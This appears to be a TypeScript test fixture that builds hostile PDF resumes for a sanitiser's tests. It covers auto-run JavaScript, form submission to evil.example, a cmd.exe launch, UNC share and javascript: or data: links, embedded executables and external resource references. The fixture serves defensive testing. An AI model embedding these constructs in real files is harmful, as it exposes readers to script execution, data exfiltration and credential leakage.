import { Buffer } from 'node:buffer';
import { buildPdf, pdfWithObjectStream, SCRIPT, stream } from './pdf.ts';

export type HostilePdf = [carries: string, file: Buffer];

const SHARE = String.raw`\\\\host\\share\\cv.pdf`;
const WEB = '<< /S /URI /URI (http://evil.example/) >>';
const PROGRAM = stream('/Type /EmbeddedFile', Buffer.from('MZ'));

const catalog = (entries: string, ...objects: (string | Buffer)[]) => buildPdf({ catalog: entries, objects });
const page = (entries: string, ...objects: (string | Buffer)[]) => buildPdf({ page: entries, objects });
const opening = (action: string, ...objects: (string | Buffer)[]) =>
  catalog(`/OpenAction << ${action} >>`, ...objects);
const link = (action: string, ...objects: string[]) =>
  page(`/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`, ...objects);
const address = (uri: string) => link(`/S /URI /URI (${uri})`);
const annotation = (entries: string, ...objects: Buffer[]) =>
  page(`/Annots [<< /Rect [0 0 9 9] ${entries} >>]`, ...objects);
const hidden = (object: string) => pdfWithObjectStream([object], { catalog: '/OpenAction 7 0 R' });
const withBase = (base: string, rest: string) =>
  buildPdf({
    catalog: `/URI << /Base (${base}) >>`,
    page: `/Annots [<< /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (${rest}) >> >>]`,
  });

/** Resumes that do more than show pages: one of each kind of action, and of each place that it may lie in. */
export const hostilePdfs: HostilePdf[] = [
  ['a script', opening('/S /JavaScript /JS (app.alert\\(1\\))')],
  ['a script under escaped names', opening('/S /J#61v#61Script /J#53 (app.alert\\(1\\))')],
  ['a script in a name tree', catalog('/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', SCRIPT)],
  ['a script in an object stream', hidden(SCRIPT)],
  ['a script when its page opens', page(`/AA << /O ${SCRIPT} >>`)],
  ['a script in a field', annotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /Bl ${SCRIPT} >>`)],
  ['a form that is sent', opening('/S /SubmitForm /F << /FS /URL /F (http://evil.example/) >>')],
  ['a form in XML', catalog('/AcroForm << /Fields [] /XFA 6 0 R >>', stream('', Buffer.from('<xdp/>')))],
  ['a start of a program by a link', link('/S 6 0 R /F (cmd.exe)', '/Launch')],
  ['a file on a share, in hex', link('/S /GoToR /F <5c5c686f73745c612e706466> /D [0 /Fit]')],
  ['an article on a share', link(`/S /Thread /F (${SHARE}) /D 0`)],
  ['a link to a share', address(SHARE)],
  ['a link to a share by a scheme', address('file://host/share/a.pdf')],
  ['a link to a search of a share', address('search-ms:query=cv&crumb=location:\\\\host\\a')],
  ['a link that is a script', address('javascript:alert\\(1\\)')],
  ['a link that is a script, with blanks', address(' java\\nscript:alert\\(1\\)')],
  ['a link that is a page', address('data:text/html,<script>alert\\(1\\)</script>')],
  ['a link that its file makes a script', withBase('javascript:', 'alert\\(1\\)')],
  ['a link that its file leads to a share', withBase('file:', '//host/a.pdf')],
  ['an address that opens by itself', catalog('/OpenAction 6 0 R', WEB)],
  ['an address that opens with its page', page('/AA 6 0 R', '<< /O 7 0 R >>', WEB)],
  ['an address that opens when its page closes', page(`/AA << /C ${WEB} >>`)],
  [
    'an attached file',
    catalog('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 6 0 R >> >>] >> >>', PROGRAM),
  ],
  ['a related file', catalog('/AF << /F (a.xml) /EF << /F 6 0 R >> /RF << /F [(a) 6 0 R] >> >>', PROGRAM)],
  ['a stream in another file', catalog('', stream('/F (http://evil.example/a)', Buffer.alloc(0)))],
  ['a film', annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
  ['a model', annotation('/Subtype /3D /3DD 6 0 R', stream('/Type /3D /Subtype /U3D', Buffer.from('U3D')))],
  ['a rich medium', annotation('/Subtype /RichMedia')],
];

const picture = (entries: string) =>
  stream(
    `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray ${entries}`,
    Buffer.from('a'),
  );
const drawn = (resources: string, ...objects: (string | Buffer)[]) =>
  page(
    `/Contents 6 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >>`,
    stream('', Buffer.from('BT /F1 12 Tf 72 770 Td (Meera Okafor) Tj ET /X Do')),
    ...objects,
  );
const withPicture = (entries: string, ...objects: (string | Buffer)[]) =>
  drawn('/XObject << /X 7 0 R >>', picture(entries), ...objects);
const FILE = '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>';
const OTHER_PAGE =
  '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (http://evil.example/) /Page 0 >>';

/** What a page draws, with more than is drawn: it would be copied with the page. */
export const hostileResources: HostilePdf[] = [
  ['a script among the fonts', drawn(`/Font << /F1 5 0 R /F2 ${SCRIPT} >>`)],
  ['a script of its own', drawn('/Extra 7 0 R', SCRIPT)],
  ['a file that belongs to a picture', withPicture(`/AF [${FILE}]`, PROGRAM)],
  ['a file that belongs to a picture, by reference', withPicture('/AF [9 0 R]', PROGRAM, FILE)],
  ['a picture on a share', withPicture(`/F (${SHARE})`)],
  ['a picture on the web', withPicture('/F << /FS /URL /F (http://evil.example/) >>')],
  ['a picture that is named in hexadecimal', withPicture('/F <5c5c686f73745c612e706e67>')],
  ['a picture that is named elsewhere', withPicture('/DecodeParms << /K 0 >> /F 8 0 R', `(${SHARE})`)],
  ['a page of another file', drawn('/XObject << /X 7 0 R >>', stream(OTHER_PAGE, Buffer.from('q Q')))],
  ['a picture with actions of its own', withPicture(`/AA << /O ${SCRIPT} >>`)],
  ['a model of its own', drawn('/Extra 7 0 R', stream('/Type /3D /Subtype /U3D', Buffer.from('U3D')))],
];
